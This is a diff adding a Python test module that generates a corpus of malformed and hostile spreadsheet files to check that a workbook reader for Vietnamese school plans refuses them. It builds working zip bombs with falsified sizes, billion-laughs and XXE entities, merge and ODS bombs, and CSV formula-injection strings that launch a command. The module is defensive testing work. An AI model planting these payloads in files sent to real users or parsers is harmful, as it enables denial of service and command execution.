@@ -1,0 +1,708 @@
+"""A corpus of broken and hostile workbooks, generated in a folder (no committed binaries).
+
+Each `Item` says how to build one file and what the tool must do with it:
+`readable` files are read and end with findings (exit 0 or 1); the others
+are refused with exit 2 and a Vietnamese sentence that names the file and
+contains one of `words`. The zip bomb is written by repeating one compressed
+block, so building it never holds more than a megabyte in memory.
+"""
+from __future__ import annotations
+
+import copy
+import random
+import re
+import struct
+import zipfile
+import zlib
+from dataclasses import dataclass
+from pathlib import Path
+from typing import Callable, Iterable, Iterator
+
+from conftest import base_data, set_cells
+
+from chuanqg_xl.grid import ooxml_sheet_parts
+from chuanqg_xl.template import PlanData, write_workbook
+
+PL1 = "PL1 - Danh sách trường"
+PL2 = "PL2 - Kinh phí CN mới"
+PL3 = "PL3 - Kinh phí CN lại"
+INFO = "Thông tin"
+
+BOMB_CHUNK = 1 << 20
+BOMB_CHUNKS = 3 * 1024            # 3 GiB of whitespace inside a sheet, about 3 MB on disk
+SECRET_MARK = "BI-MAT-KHONG-DUOC-LO-7f3a"  # what an XXE payload would try to pull into the output
+
+
+# ---------------------------------------------------------------- zip plumbing
+
+
+def members(path: Path) -> dict[str, bytes]:
+    """Every part of a package, in archive order."""
+    with zipfile.ZipFile(path) as archive:
+        return {info.filename: archive.read(info) for info in archive.infolist()}
+
+
+def write_zip(path: Path, parts: dict[str, bytes]) -> None:
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, data in parts.items():
+            archive.writestr(zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0)), data,
+                             compress_type=zipfile.ZIP_DEFLATED)
+
+
+@dataclass(frozen=True)
+class RawMember:
+    """A member whose deflate stream and declared sizes are given as they are, even when they lie."""
+
+    name: str
+    chunks: Callable[[], Iterator[bytes]]  # the raw deflate stream, produced piece by piece
+    crc: int
+    file_size: int
+
+
+def _raw(data: bytes) -> bytes:
+    compressor = zlib.compressobj(6, zlib.DEFLATED, -15)
+    return compressor.compress(data) + compressor.flush()
+
+
+def write_raw_zip(path: Path, entries: Iterable[tuple[str, bytes] | RawMember]) -> None:
+    """A plain zip (no zip64) written by hand, so a member may declare any size over any stream."""
+    central = []
+    with open(path, "wb") as handle:
+        for entry in entries:
+            offset = handle.tell()
+            if isinstance(entry, RawMember):
+                name, crc, size = entry.name.encode(), entry.crc, entry.file_size
+                chunks: Iterable[bytes] = entry.chunks()
+            else:
+                name, data = entry[0].encode(), entry[1]
+                crc, size = zlib.crc32(data), len(data)
+                chunks = [_raw(data)]
+            handle.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0x800, 8, 0, 0x5821, crc, 0, size,
+                                     len(name), 0) + name)
+            start = handle.tell()
+            for chunk in chunks:
+                handle.write(chunk)
+            compressed = handle.tell() - start
+            # the local header was written before the compressed size was known
+            handle.seek(offset + 18)
+            handle.write(struct.pack("<I", compressed))
+            handle.seek(0, 2)
+            central.append(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0x800, 8, 0, 0x5821, crc,
+                                       compressed, size, len(name), 0, 0, 0, 0, 0, offset) + name)
+        directory = handle.tell()
+        for record in central:
+            handle.write(record)
+        size = handle.tell() - directory
+        handle.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(central), len(central), size, directory, 0))
+
+
+def _repeated_stream(block: bytes, count: int) -> Callable[[], Iterator[bytes]]:
+    """A deflate stream of `block` repeated `count` times: after a full flush the encoder starts afresh,
+    so every repetition compresses to the same bytes and only one is ever computed."""
+    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
+    once = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
+    end = compressor.flush()
+
+    def chunks() -> Iterator[bytes]:
+        for _ in range(count):
+            yield once
+        yield end
+
+    return chunks
+
+
+# ---------------------------------------------------------------- the standard plan and edits of it
+
+
+def standard_plan(path: Path, change: Callable[[PlanData], None] | None = None) -> Path:
+    data = copy.deepcopy(base_data())
+    if change:
+        change(data)
+    write_workbook(path, data, derived=True, overwrite=True)
+    return path
+
+
+def part_of(path: Path, sheet: str) -> str:
+    with zipfile.ZipFile(path) as archive:
+        return ooxml_sheet_parts(archive, path)[sheet]
+
+
+def edit_parts(path: Path, edit: Callable[[dict[str, bytes]], None]) -> Path:
+    parts = members(path)
+    edit(parts)
+    write_zip(path, parts)
+    return path
+
+
+def _append_rows(path: Path, sheet: str, rows: bytes) -> Path:
+    part = part_of(path, sheet)
+
+    def edit(parts: dict[str, bytes]) -> None:
+        parts[part] = parts[part].replace(b"</sheetData>", rows + b"</sheetData>", 1)
+
+    return edit_parts(path, edit)
+
+
+def _prepend_doctype(xml: bytes, doctype: bytes, filler: bytes = b"") -> bytes:
+    """Put `filler` and a DOCTYPE between the XML declaration and the root element."""
+    end = xml.index(b"?>") + 2 if xml.startswith(b"<?xml") else 0
+    return xml[:end] + filler + doctype + xml[end:]
+
+
+# ---------------------------------------------------------------- builders
+
+
+def _empty(path: Path) -> None:
+    path.write_bytes(b"")
+
+
+def _random_bytes(path: Path) -> None:
+    data = bytearray(random.Random(6).randbytes(64 * 1024))
+    data[:4] = b"\x00\x13\x37\x00"  # never a zip or OLE signature by chance
+    path.write_bytes(bytes(data))
+
+
+def _csv(path: Path) -> None:
+    path.write_text("STT,Tên trường,Cấp học,Hình thức công nhận\n1,TH Kim Đồng,Tiểu học,Công nhận mới\n"
+                    "2,THCS Tây Sơn,THCS,Công nhận lại\n", encoding="utf-8-sig")
+
+
+def _docx(path: Path) -> None:
+    write_zip(path, {
+        "[Content_Types].xml": b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats'
+                               b'.org/package/2006/content-types"><Default Extension="xml" ContentType="application/'
+                               b'xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxml'
+                               b'formats-officedocument.wordprocessingml.document.main+xml"/></Types>',
+        "word/document.xml": '<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxml'
+                             'formats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Kế hoạch xây dựng '
+                             'trường đạt chuẩn quốc gia</w:t></w:r></w:p></w:body></w:document>'.encode(),
+    })
+
+
+def _xls_renamed(path: Path) -> None:
+    """The standard plan saved as Excel 97-2003 (.xls), then renamed .xlsx — as people do."""
+    from builders import grids_of, write_xls
+
+    source = standard_plan(path.with_name(path.stem + ".source.xlsx"))
+    try:
+        sheets = {name: [["" if cell is None else cell for cell in row] for row in rows]
+                  for name, rows in grids_of(source).items()}
+    finally:
+        source.unlink()
+    real = path.with_suffix(".xls")
+    write_xls(real, sheets)
+    real.replace(path)
+
+
+def _truncated(path: Path) -> None:
+    standard_plan(path)
+    data = path.read_bytes()
+    path.write_bytes(data[: len(data) // 2])
+
+
+def _corrupt_deflate(path: Path) -> None:
+    """The central directory is fine but a sheet's compressed bytes are garbage (a bad USB stick)."""
+    standard_plan(path)
+    part = part_of(path, PL1)
+    with zipfile.ZipFile(path) as archive:
+        info = archive.getinfo(part)
+    data = bytearray(path.read_bytes())
+    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
+    for offset in range(start + 20, start + min(info.compress_size, 400), 3):
+        data[offset] ^= 0x5A
+    path.write_bytes(bytes(data))
+
+
+def cfb(streams: dict[str, bytes]) -> bytes:
+    """A minimal OLE compound file (version 3) holding `streams` in the root storage.
+
+    Streams are padded to 4096 bytes or more so that they live in regular sectors
+    and no mini stream is needed.
+    """
+    sector = 512
+    end_of_chain, free, fat_sect, no_stream = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD, 0xFFFFFFFF
+    names = sorted(streams, key=lambda name: (len(name), name.upper()))
+    data = {name: streams[name].ljust(max(4096, len(streams[name])), b"\x00") for name in names}
+    fat: list[int] = [fat_sect, end_of_chain]          # sector 0: the FAT, sector 1: the directory
+    starts: dict[str, int] = {}
+    for name in names:
+        count = -(-len(data[name]) // sector)
+        starts[name] = len(fat)
+        fat.extend(range(len(fat) + 1, len(fat) + count))
+        fat.append(end_of_chain)
+    assert len(fat) <= sector // 4, "one FAT sector is enough for a test file"
+    fat.extend([free] * (sector // 4 - len(fat)))
+
+    def entry(name: str, kind: int, left: int, right: int, child: int, start: int, size: int) -> bytes:
+        encoded = name.encode("utf-16-le") + b"\x00\x00" if name else b""
+        return (encoded.ljust(64, b"\x00") + struct.pack("<HBB", len(encoded), kind, 1)
+                + struct.pack("<III", left, right, child) + b"\x00" * 36 + struct.pack("<IQ", start, size))
+
+    # Siblings form a tree ordered by (length, upper-case name): each stream is the right sibling of the one before.
+    entries = [entry("Root Entry", 5, no_stream, no_stream, 1 if names else no_stream, end_of_chain, 0)]
+    for index, name in enumerate(names, start=1):
+        right = index + 1 if index < len(names) else no_stream
+        entries.append(entry(name, 2, no_stream, right, no_stream, starts[name], len(streams[name])))
+    assert len(entries) <= 4
+    while len(entries) < 4:
+        entries.append(entry("", 0, no_stream, no_stream, no_stream, 0, 0))
+    header = (bytes.fromhex("d0cf11e0a1b11ae1") + b"\x00" * 16
+              + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + b"\x00" * 6
+              + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, end_of_chain, 0, end_of_chain, 0)
+              + struct.pack("<I", 0) + struct.pack("<I", free) * 108)
+    assert len(header) == sector
+    body = struct.pack(f"<{sector // 4}I", *fat) + b"".join(entries)
+    for name in names:
+        body += data[name].ljust(-(-len(data[name]) // sector) * sector, b"\x00")
+    return header + body
+
+
+def _encrypted(path: Path) -> None:
+    """What Excel writes for 'Encrypt with password': an OLE container around an encrypted package."""
+    info = (struct.pack("<HHI", 4, 4, 0x40) + b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+            b'<encryption xmlns="http://schemas.microsoft.com/office/2006/encryption"><keyData saltSize="16" '
+            b'blockSize="16" keyBits="256" hashSize="64" cipherAlgorithm="AES" cipherChaining="ChainingModeCBC" '
+            b'hashAlgorithm="SHA512" saltValue="AAAAAAAAAAAAAAAAAAAAAA=="/></encryption>')
+    package = struct.pack("<Q", 16000) + random.Random(7).randbytes(16000)
+    path.write_bytes(cfb({"EncryptionInfo": info, "EncryptedPackage": package}))
+
+
+LAUGHS = (b'<!DOCTYPE lolz [<!ENTITY lol "lol">'
+          + b"".join(b'<!ENTITY lol%d "%s">' % (level, (b"&lol%d;" % (level - 1) if level > 1 else b"&lol;") * 10)
+                     for level in range(1, 10))
+          + b"]>")
+
+
+def _billion_laughs(path: Path) -> None:
+    standard_plan(path)
+
+    def edit(parts: dict[str, bytes]) -> None:
+        xml = _prepend_doctype(parts["xl/sharedStrings.xml"], LAUGHS)
+        parts["xl/sharedStrings.xml"] = xml.replace(b"<t>TH Kim \xc4\x90\xe1\xbb\x93ng</t>", b"<t>&lol9;</t>", 1)
+
+    edit_parts(path, edit)
+
+
+def _xxe_doctype(path: Path) -> bytes:
+    secret = path.with_name("secret.txt")
+    secret.write_text(SECRET_MARK, encoding="utf-8")
+    return b'<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "' + secret.as_uri().encode() + b'">]>'
+
+
+def _xxe_cell(parts: dict[str, bytes], part: str) -> None:
+    """The school name in B4 becomes an inline string holding the external entity."""
+    parts[part] = re.sub(rb'<c r="B4"[^>]*>.*?</c>', b'<c r="B4" t="inlineStr"><is><t>&xxe;</t></is></c>',
+                         parts[part], count=1)
+
+
+def _xxe(path: Path) -> None:
+    standard_plan(path)
+    part = part_of(path, PL1)
+
+    def edit(parts: dict[str, bytes]) -> None:
+        parts[part] = _prepend_doctype(parts[part], _xxe_doctype(path))
+        _xxe_cell(parts, part)
+
+    edit_parts(path, edit)
+
+
+def _xxe_after_comment(path: Path) -> None:
+    """The DOCTYPE hides behind 100 KB of comment: a check of the first bytes only would miss it."""
+    standard_plan(path)
+    part = part_of(path, PL1)
+
+    def edit(parts: dict[str, bytes]) -> None:
+        filler = b"<!--" + b" padding " * 12_000 + b"-->"
+        parts[part] = _prepend_doctype(parts[part], _xxe_doctype(path), filler)
+        _xxe_cell(parts, part)
+
+    edit_parts(path, edit)
+
+
+def _doctype_utf16(path: Path) -> None:
+    """A UTF-16 part (allowed by XML) with an entity: a byte search for '<!DOCTYPE' finds nothing."""
+    standard_plan(path)
+
+    def edit(parts: dict[str, bytes]) -> None:
+        xml = _prepend_doctype(parts["xl/sharedStrings.xml"], LAUGHS).replace(b'encoding="UTF-8"',
+                                                                             b'encoding="UTF-16"', 1)
+        parts["xl/sharedStrings.xml"] = b"\xff\xfe" + xml.decode("utf-8").encode("utf-16-le")
+
+    edit_parts(path, edit)
+
+
+def _zip_bomb(path: Path) -> None:
+    """The 'Thông tin' sheet inflates to 3 GiB of whitespace between its rows."""
+    standard_plan(path)
+    part = part_of(path, INFO)
+    parts = members(path)
+    head, tail = parts[part].split(b"<sheetData>", 1)
+    head += b"<sheetData>"
+    block = b" " * BOMB_CHUNK
+    crc = zlib.crc32(head)
+    for _ in range(BOMB_CHUNKS):
+        crc = zlib.crc32(block, crc)
+    crc = zlib.crc32(tail, crc)
+    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
+    start = compressor.compress(head) + compressor.flush(zlib.Z_FULL_FLUSH)
+    middle = _repeated_stream(block, BOMB_CHUNKS)
+    finish = zlib.compressobj(9, zlib.DEFLATED, -15)
+
+    def chunks() -> Iterator[bytes]:
+        yield start
+        *body, _end = list(middle())  # `_end` would close the stream; the tail closes it instead
+        yield from body
+        yield finish.compress(tail) + finish.flush()
+
+    size = len(head) + BOMB_CHUNK * BOMB_CHUNKS + len(tail)
+    write_raw_zip(path, [RawMember(name, chunks, crc, size) if name == part else (name, data)
+                         for name, data in parts.items()])
+
+
+def _zip_bomb_lying(path: Path) -> None:
+    """sharedStrings declares 40 KB but its stream inflates to 3 GiB: the declared sizes pass every limit."""
+    standard_plan(path)
+    parts = members(path)
+    real = parts["xl/sharedStrings.xml"]
+    stream = _repeated_stream(real[:1024].ljust(BOMB_CHUNK, b" "), BOMB_CHUNKS)
+    write_raw_zip(path, [RawMember(name, stream, zlib.crc32(data), 40_000) if name == "xl/sharedStrings.xml"
+                         else (name, data) for name, data in parts.items()])
+
+
+def _zip_bomb_lying_crc(path: Path) -> None:
+    """As above, but the CRC matches the declared 40 KB: zipfile returns the truncated part without complaint
+    (after asking zlib for up to 2 GB), so only a reader that watches the inflated size notices."""
+    standard_plan(path)
+    parts = members(path)
+    block = parts["xl/sharedStrings.xml"][:1024].ljust(BOMB_CHUNK, b" ")
+    stream = _repeated_stream(block, BOMB_CHUNKS)
+    write_raw_zip(path, [RawMember(name, stream, zlib.crc32(block[:40_000]), 40_000)
+                         if name == "xl/sharedStrings.xml" else (name, data) for name, data in parts.items()])
+
+
+def _zip_encrypted_member(path: Path) -> None:
+    """A zip whose parts carry the 'encrypted' flag (made with a zip tool's password option)."""
+    standard_plan(path)
+    data = bytearray(path.read_bytes())
+    with zipfile.ZipFile(path) as archive:
+        infos = archive.infolist()
+    directory = data.rfind(b"PK\x05\x06")
+    start = struct.unpack_from("<I", data, directory + 16)[0]
+    for info in infos:
+        data[info.header_offset + 6] |= 1
+    pos = start
+    while data[pos:pos + 4] == b"PK\x01\x02":
+        data[pos + 8] |= 1
+        name_len, extra_len, comment_len = struct.unpack_from("<HHH", data, pos + 28)
+        pos += 46 + name_len + extra_len + comment_len
+    path.write_bytes(bytes(data))
+
+
+def _many_parts(path: Path) -> None:
+    standard_plan(path)
+
+    def edit(parts: dict[str, bytes]) -> None:
+        for index in range(10_050):
+            parts[f"customXml/item{index}.xml"] = b"<a/>"
+
+    edit_parts(path, edit)
+
+
+FAR_CELL = b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
+
+
+def _million_rows(path: Path) -> None:
+    """PL1 keeps its data and gains one value in the very last cell of the sheet."""
+    _append_rows(standard_plan(path), PL1, FAR_CELL)
+
+
+def _million_rows_quoted(path: Path) -> None:
+    """The same far cell written with single quotes and a lower-case address (valid XML, read by calamine)."""
+    _append_rows(standard_plan(path), PL1, b"<row r='1048576'><c r = 'xfd1048576'><v>1</v></c></row>")
+
+
+def _million_rows_unaddressed(path: Path) -> None:
+    """16,384 cells without addresses in the last row: no cell reference names a far column."""
+    cells = b"<c><v>1</v></c>" * 16_384
+    _append_rows(standard_plan(path), PL1, b'<row r="1048576">' + cells + b"</row>")
+
+
+def _million_rows_reordered(path: Path) -> None:
+    """The far row comes first and a low row last: the last row tag no longer tells the extent."""
+    standard_plan(path)
+    part = part_of(path, PL1)
+
+    def edit(parts: dict[str, bytes]) -> None:
+        parts[part] = parts[part].replace(b"<sheetData>", b"<sheetData>" + FAR_CELL, 1)
+
+    edit_parts(path, edit)
+
+
+def _million_rows_hidden(path: Path) -> None:
+    """The far cell again, with workbook.xml written in single quotes: a reader that maps sheets to parts
+    with a double-quote pattern finds no part, so only a check of every part catches it."""
+    _million_rows(path)
+
+    def edit(parts: dict[str, bytes]) -> None:
+        workbook = parts["xl/workbook.xml"]
+        head, sheets = workbook.split(b"<sheets>", 1)
+        sheets, tail = sheets.split(b"</sheets>", 1)
+        parts["xl/workbook.xml"] = head + b"<sheets>" + sheets.replace(b'"', b"'") + b"</sheets>" + tail
+
+    edit_parts(path, edit)
+
+
+def _xls_merge_bomb(path: Path) -> None:
+    """The standard plan as an .xls of 22 KB whose 120 merged ranges cover 100,000 cells each.
+
+    xlwt writes small merges; their MERGEDCELLS record is then widened in place (same length),
+    so the OLE container stays valid.
+    """
+    import xlwt
+    from builders import grids_of
+
+    source = standard_plan(path.with_name(path.stem + ".source.xlsx"))
+    try:
+        sheets = grids_of(source)
+    finally:
+        source.unlink()
+    workbook = xlwt.Workbook(encoding="utf-8")
+    dates = xlwt.easyxf(num_format_str="DD/MM/YYYY")
+    for name, rows in sheets.items():
+        sheet = workbook.add_sheet(name[:31])
+        for r, row in enumerate(rows):
+            for c, value in enumerate(row):
+                if value not in ("", None):
+                    sheet.write(r, c, value, dates) if hasattr(value, "year") else sheet.write(r, c, value)
+        if name == PL1:
+            for index in range(120):
+                sheet.merge(100 + index, 100 + index, 20, 21)
+    workbook.save(str(path))
+    data = bytearray(path.read_bytes())
+    pos = data.find(b"\xe5\x00\xc2\x03\x78\x00")  # MERGEDCELLS, 2 + 8 × 120 bytes, 120 ranges
+    assert pos > 0
+    for index in range(120):
+        row, col = 100 + (index // 40) * 20_000, 20 + (index % 40) * 4
+        struct.pack_into("<HHHH", data, pos + 6 + 8 * index, row, row + 19_999, col, col + 3)
+    path.write_bytes(bytes(data))
+
+
+def _merge_bomb(path: Path) -> None:
+    """120 merged ranges of 100,000 cells each in a 16 KB file: expanded cell by cell, they take gigabytes."""
+    from chuanqg_xl.cells import a1
+
+    standard_plan(path)
+    part = part_of(path, PL1)
+    refs = []
+    for index in range(120):
+        col, row = 20 + (index % 40) * 4, 100 + (index // 40) * 25_000
+        refs.append(f'<mergeCell ref="{a1(row, col)}:{a1(row + 24_999, col + 3)}"/>')
+
+    def edit(parts: dict[str, bytes]) -> None:
+        merges = ('<mergeCells count="120">' + "".join(refs) + "</mergeCells>").encode()
+        parts[part] = parts[part].replace(b"</sheetData>", b"</sheetData>" + merges, 1)
+
+    edit_parts(path, edit)
+
+
+ODS_MANIFEST = (b'<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:'
+                b'opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="/" manifest:media-type='
+                b'"application/vnd.oasis.opendocument.spreadsheet"/><manifest:file-entry manifest:full-path='
+                b'"content.xml" manifest:media-type="text/xml"/></manifest:manifest>')
+
+
+def write_ods(path: Path, content: bytes) -> Path:
+    """An OpenDocument spreadsheet with just a content.xml (what calamine needs)."""
+    with zipfile.ZipFile(path, "w") as archive:
+        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet",
+                         compress_type=zipfile.ZIP_STORED)
+        archive.writestr("META-INF/manifest.xml", ODS_MANIFEST, compress_type=zipfile.ZIP_DEFLATED)
+        archive.writestr("content.xml", content, compress_type=zipfile.ZIP_DEFLATED)
+    return path
+
+
+def _ods_bomb(path: Path) -> None:
+    """An OpenDocument sheet of under 1 KB repeating one value over 1,048,575 rows × 90 columns."""
+    content = (
+        '<?xml version="1.0" encoding="UTF-8"?><office:document-content '
+        'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
+        'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
+        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2"><office:body>'
+        '<office:spreadsheet><table:table table:name="PL1 - Danh sách trường"><table:table-row>'
+        '<table:table-cell office:value-type="string"><text:p>STT</text:p></table:table-cell></table:table-row>'
+        '<table:table-row table:number-rows-repeated="1048575"><table:table-cell office:value-type="float" '
+        'office:value="1" table:number-columns-repeated="90"><text:p>1</text:p></table:table-cell>'
+        "</table:table-row></table:table></office:spreadsheet></office:body></office:document-content>")
+    write_ods(path, content.encode())
+
+
+NAN_MARKS = {111111: b"NaN", 222222: b"INF", 333333: b"-1E+400", 444444: b"1.7976931348623157E+308",
+             555555: b"1.5E+308"}
+
+
+def _nan_inf(path: Path) -> None:
+    """Amount cells holding NaN, ±infinity and numbers whose sum overflows."""
+    standard_plan(path)
+    set_cells(path, {(PL2, "D4"): 111111, (PL2, "E4"): 222222, (PL2, "E5"): 333333, (PL3, "E4"): 444444,
+                     (PL3, "G5"): 555555})
+    parts = members(path)
+    for sheet in (PL2, PL3):
+        part = part_of(path, sheet)
+        for mark, value in NAN_MARKS.items():
+            parts[part] = parts[part].replace(b"<v>%d</v>" % mark, b"<v>" + value + b"</v>")
+    write_zip(path, parts)
+
+
+def _sheet_missing(path: Path) -> None:
+    """The standard workbook without its PL2 sheet (deleted in Excel)."""
+    standard_plan(path)
+    part = part_of(path, PL2)
+    name = PL2.encode()
+
+    def edit(parts: dict[str, bytes]) -> None:
+        workbook = parts["xl/workbook.xml"]
+        rel = re.search(rb'<sheet name="' + re.escape(name) + rb'" sheetId="\d+" r:id="(rId\d+)"/>', workbook)
+        assert rel
+        workbook = workbook.replace(rel.group(0), b"")
+        parts["xl/workbook.xml"] = re.sub(rb"<definedName [^>]*>[^<]*" + re.escape(name) + rb"[^<]*</definedName>",
+                                          b"", workbook)
+        rels = parts["xl/_rels/workbook.xml.rels"]
+        parts["xl/_rels/workbook.xml.rels"] = re.sub(rb'<Relationship Id="' + rel.group(1) + rb'"[^>]*/>', b"", rels)
+        parts["[Content_Types].xml"] = re.sub(rb'<Override PartName="/' + re.escape(part.encode()) + rb'"[^>]*/>',
+                                              b"", parts["[Content_Types].xml"])
+        del parts[part]
+
+    edit_parts(path, edit)
+
+
+def _sheet_part_missing(path: Path) -> None:
+    """workbook.xml still lists PL1 but its part is gone from the archive (a damaged file)."""
+    standard_plan(path)
+    part = part_of(path, PL1)
+    edit_parts(path, lambda parts: parts.pop(part))
+
+
+def _header_missing(path: Path) -> None:
+    standard_plan(path)
+    set_cells(path, {(PL1, "B3"): None})
+
+
+def _merged_data(path: Path) -> None:
+    """A merge over the school rows (B4:E6) and one over the budget lines, as a careless copy-paste leaves."""
+    standard_plan(path)
+    for sheet, ref in ((PL1, b"B4:E6"), (PL2, b"D4:H5")):
+        part = part_of(path, sheet)
+
+        def edit(parts: dict[str, bytes], part: str = part, ref: bytes = ref) -> None:
+            xml = parts[part]
+            merge = b'<mergeCell ref="' + ref + b'"/>'
+            if b"<mergeCells" in xml:
+                xml = re.sub(rb'<mergeCells count="\d+">', lambda m: m.group(0) + merge, xml, count=1)
+            else:
+                xml = xml.replace(b"</sheetData>", b"</sheetData><mergeCells count=\"1\">" + merge + b"</mergeCells>",
+                                  1)
+            parts[part] = xml
+
+        edit_parts(path, edit)
+
+
+def _text_numbers(path: Path) -> None:
+    """Every number (and date) cell of every sheet holds text instead."""
+    from builders import grids_of
+
+    standard_plan(path)
+    edits: dict[tuple[str, str], object] = {}
+    from chuanqg_xl.cells import a1
+
+    for sheet, rows in grids_of(path).items():
+        for r, row in enumerate(rows, start=1):
+            for c, value in enumerate(row, start=1):
+                if not isinstance(value, str) and value is not None:
+                    edits[(sheet, a1(r, c))] = "không rõ"
+    assert len(edits) > 30
+    set_cells(path, edits)
+
+
+HOSTILE_NAMES = ("=HYPERLINK(\"http://example.invalid/?x=\"&A1,\"Bấm vào đây\")", "+cmd|' /C calc'!A0",
+                 "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1")
+
+
+def with_hostile_names(data: PlanData) -> None:
+    """School names that a spreadsheet would run as formulas if a CSV carried them as they are."""
+    data.schools[0]["name"] = HOSTILE_NAMES[0]
+    for name in HOSTILE_NAMES[1:4]:
+        data.schools.append({"name": name, "level": "Tiểu học", "commune": "Phường Một", "kind": "Công nhận lại",
+                             "standard_level": "Mức độ 1", "accreditation_level": "Cấp độ 2",
+                             "timing": "Quý IV/2023"})
+    data.budget_new[0]["name"] = data.budget_new[1]["name"] = HOSTILE_NAMES[0]
+    data.budget_new[0]["item"] = HOSTILE_NAMES[4]
+    data.budget_new[1]["item"] = HOSTILE_NAMES[5]
+
+
+def _formula_injection(path: Path) -> None:
+    standard_plan(path, with_hostile_names)
+
+
+# ---------------------------------------------------------------- the corpus
+
+
+@dataclass(frozen=True)
+class Item:
+    name: str
+    filename: str
+    build: Callable[[Path], None]
+    readable: bool = False          # True: read, findings reported (exit 0/1); False: refused (exit 2)
+    words: tuple[str, ...] = ()     # the refusal names the problem with one of these
+    gap: str = ""                   # a known failure outside the guard: why, and where to fix it
+
+
+CORPUS: tuple[Item, ...] = (
+    Item("empty", "kế hoạch rỗng.xlsx", _empty, words=("rỗng",)),
+    Item("random_bytes", "random.xlsx", _random_bytes, words=("không phải sổ Excel",)),
+    Item("csv_renamed", "danh-sach.xlsx", _csv, words=("CSV",)),
+    Item("docx_renamed", "ke-hoach-word.xlsx", _docx, words=("Word",)),
+    Item("xls_renamed", "ke-hoach-cu.xlsx", _xls_renamed, readable=True),
+    Item("truncated", "cut.xlsx", _truncated, words=("cắt cụt",)),
+    Item("corrupt_deflate", "hong.xlsx", _corrupt_deflate, words=("bị hỏng",)),
+    Item("encrypted", "mat-khau.xlsx", _encrypted, words=("mật khẩu",)),
+    Item("billion_laughs", "laughs.xlsx", _billion_laughs, words=("XML nguy hiểm",)),
+    Item("xxe", "xxe.xlsx", _xxe, words=("XML nguy hiểm",)),
+    Item("xxe_after_comment", "xxe-comment.xlsx", _xxe_after_comment, words=("XML nguy hiểm",)),
+    Item("doctype_utf16", "utf16.xlsx", _doctype_utf16, words=("XML nguy hiểm",)),
+    Item("zip_bomb", "bomb.xlsx", _zip_bomb, words=("bom nén",)),
+    Item("zip_bomb_lying", "bomb-lying.xlsx", _zip_bomb_lying, words=("bom nén",)),
+    Item("zip_bomb_lying_crc", "bomb-lying-crc.xlsx", _zip_bomb_lying_crc, words=("bom nén",)),
+    Item("zip_encrypted_member", "zip-mat-khau.xlsx", _zip_encrypted_member, words=("mật khẩu",)),
+    Item("many_parts", "parts.xlsx", _many_parts, words=("thành phần",)),
+    Item("million_rows", "rows.xlsx", _million_rows, words=("XFD1048576",)),
+    Item("million_rows_quoted", "rows-quoted.xlsx", _million_rows_quoted, words=("XFD1048576",)),
+    Item("million_rows_unaddressed", "rows-noref.xlsx", _million_rows_unaddressed, words=("1048576",)),
+    Item("million_rows_reordered", "rows-order.xlsx", _million_rows_reordered, words=("XFD1048576",)),
+    Item("million_rows_hidden", "rows-hidden.xlsx", _million_rows_hidden, words=("XFD1048576",)),
+    Item("merge_bomb", "merge-bomb.xlsx", _merge_bomb, words=("gộp ô",)),
+    Item("ods_bomb", "ods-bomb.ods", _ods_bomb, words=("CL1048576",)),
+    Item("xls_merge_bomb", "merge-bomb.xls", _xls_merge_bomb, readable=True,
+         gap="reader._Sheet expands every merged range of up to 100,000 cells into a dict with no total cap: "
+             "120 ranges take 1.5 GB and end in MemoryError; the guard does not parse .xls (OLE) files"),
+    Item("nan_inf", "nan.xlsx", _nan_inf, readable=True),
+    Item("sheet_missing", "thieu-trang.xlsx", _sheet_missing, words=("thiếu trang tính",)),
+    Item("sheet_part_missing", "thieu-phan.xlsx", _sheet_part_missing, words=("bị hỏng", "thiếu")),
+    Item("header_missing", "thieu-tieu-de.xlsx", _header_missing, words=("tiêu đề",)),
+    Item("merged_data", "gop-o.xlsx", _merged_data, readable=True),
+    Item("text_numbers", "chu-thay-so.xlsx", _text_numbers, readable=True),
+    Item("formula_injection", "cong-thuc.xlsx", _formula_injection, readable=True),
+)
+BY_NAME = {item.name: item for item in CORPUS}
+
+
+def build(item: Item, folder: Path) -> Path:
+    """Write one corpus file in its own sub-folder (some builders leave helper files next to it)."""
+    home = folder / item.name
+    home.mkdir(parents=True, exist_ok=True)
+    path = home / item.filename
+    item.build(path)
+    return path
+
+
+def build_corpus(folder: Path) -> dict[str, Path]:
+    return {item.name: build(item, folder) for item in CORPUS}
